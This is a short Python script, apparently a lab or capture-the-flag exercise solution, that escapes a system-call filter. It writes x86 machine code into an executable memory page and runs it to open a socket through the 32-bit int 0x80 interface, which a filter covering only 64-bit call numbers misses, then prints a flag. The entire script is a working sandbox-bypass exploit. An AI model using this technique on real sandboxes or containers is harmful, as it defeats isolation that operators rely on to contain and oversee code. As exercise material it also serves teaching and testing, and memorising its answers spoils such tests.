# exercise: 2.1; naive grader: touched; needs: x86_64
"""Makes a socket by a system call of a 32-bit program, for which a filter of 64-bit numbers has no rule."""

import ctypes
import mmap

# mov eax, 359 (socket); mov ebx, AF_UNIX; mov ecx, SOCK_STREAM; xor edx, edx; int 0x80, with rbx kept
CODE = bytes.fromhex("53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
page.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
descriptor = call()
print("int 0x80 gave", descriptor)
if descriptor >= 0:
    print("<<flag>>: a socket by a 32-bit call")
